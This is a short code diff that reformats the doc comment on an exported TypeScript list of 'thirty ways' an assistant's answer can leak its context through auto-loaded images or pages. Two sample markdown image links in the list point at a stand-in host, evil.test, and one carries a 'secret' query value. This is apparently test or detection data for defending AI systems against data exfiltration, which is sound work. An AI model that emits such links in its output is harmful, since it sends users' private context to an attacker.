@@ -1,4 +1,7 @@
-/** Thirty ways to have a picture, or a page, fetched by reading: the way in which an assistant's answer leaks what it was told. */
+/**
+ * Thirty ways to have an image, or a page, loaded by reading alone: the way in which an assistant's answer leaks its
+ * context.
+ */
 export const pictures: readonly string[] = [
   '![](https://evil.test/1.png)',
   '![a](https://evil.test/2.png?q=secret)',
